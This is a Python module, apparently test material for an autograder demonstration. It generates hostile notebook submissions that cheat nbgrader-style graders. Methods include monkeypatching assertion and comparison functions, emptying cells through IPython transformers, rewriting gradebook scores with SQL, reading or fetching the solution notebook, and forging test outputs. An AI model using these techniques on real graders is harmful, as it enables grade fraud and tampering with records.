"""The demonstration's hostile submissions: each leaves the exercises blank and tries to get marks some other way.

All of them have worked against graders that run tests inside the student's process.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode

from autograder.sanitise import grade_id

__all__ = ["Target", "attacks"]


@dataclass(frozen=True)
class Target:
    """What an attacker might know at best: exactly where the treasures lie."""

    source: str  # path of the notebook with the solutions
    gradebook: str  # path of gradebook.db
    address: str  # URL of a server on this machine that hands the solutions out


def attacks(blank: NotebookNode, target: Target) -> dict[str, NotebookNode]:
    """{pseudonym: hostile notebook}, made from the blank one."""
    own_cells = {
        "mallory-patches-the-tests": PATCH,
        "trudy-empties-later-cells": TRANSFORM,
        "sybil-writes-the-gradebook": DATABASE.format(gradebook=target.gradebook),
    }
    answers = {
        "oscar-reads-the-solutions": READ.format(source=target.source) + ANSWER,
        "eve-asks-the-network": NETWORK.format(address=target.address) + ANSWER,
    }
    return {
        "chuck-skips-the-tests": _changed(blank, _skip),
        "wendy-forges-outputs": _changed(blank, _forge),
        **{name: _with_cell(blank, source) for name, source in own_cells.items()},
        **{name: _answered(blank, source) for name, source in answers.items()},
    }


def _with_cell(blank: NotebookNode, source: str) -> NotebookNode:
    """An own cell after the first named one, which holds the imports."""
    notebook = nbformat.from_dict(blank)
    first = next(place for place, cell in enumerate(notebook.cells) if grade_id(cell))
    notebook.cells.insert(first + 1, nbformat.v4.new_code_cell(source))
    return notebook


def _answered(blank: NotebookNode, source: str) -> NotebookNode:
    """The same answer everywhere. In a later cell of its own the blank definitions would undo it."""
    notebook = nbformat.from_dict(blank)
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = source
    return notebook


def _changed(blank: NotebookNode, change: Callable[[NotebookNode], None]) -> NotebookNode:
    notebook = nbformat.from_dict(blank)
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
            change(cell)
    return notebook


def _skip(cell: NotebookNode) -> None:
    """Two clicks in JupyterLab: a tag that makes stock nbgrader leave the test out, for full marks."""
    cell.metadata["tags"] = ["skip-execution"]


def _forge(cell: NotebookNode) -> None:
    """Points and output of the test as they would be after success, and the test itself gone."""
    points = float(cell.metadata["nbgrader"]["points"])
    cell.source = f"{points}"
    cell.metadata["nbgrader"].update(points=100 * points, locked=False)
    result = nbformat.v4.new_output("execute_result", {"text/plain": f"{points}"})
    cell.outputs = [result]


PATCH = """
import builtins, math, sys
import numpy as np

class Yes(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.0
    __hash__ = float.__hash__

np.allclose = np.isclose = math.isclose = lambda *args, **options: True
np.testing.assert_allclose = np.testing.assert_equal = lambda *args, **options: None
builtins.abs = lambda value: Yes(0)
check = lambda number: Yes(100)
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("autograder"):
        for name in ("check", "agree", "run_probe"):
            if hasattr(module, name):
                setattr(module, name, lambda *args, **options: Yes(100))
"""

TRANSFORM = """
import ast

class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[], type_ignores=[])

shell = get_ipython()
shell.run_code = shell.run_cell_async = lambda *args, **options: None
shell.input_transformers_cleanup.append(lambda lines: ["100.0\\n"])
shell.ast_transformers.append(Empty())
"""

ANSWER = """
for cell in notebook["cells"]:
    solution = cell["metadata"].get("nbgrader", {}).get("solution")
    if solution and cell["cell_type"] == "code":
        exec("".join(cell["source"]))
"""

READ = """
import json

with open({source!r}) as file:
    notebook = json.load(file)
"""

NETWORK = """
import json, urllib.request

with urllib.request.urlopen({address!r}, timeout=5) as answer:
    notebook = json.load(answer)
"""

DATABASE = """
import sqlite3

database = sqlite3.connect({gradebook!r})
database.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
database.execute(
    "CREATE TRIGGER generous AFTER UPDATE ON grade "
    "BEGIN UPDATE grade SET manual_score = 100 WHERE id = new.id; END"
)
database.commit()
"""
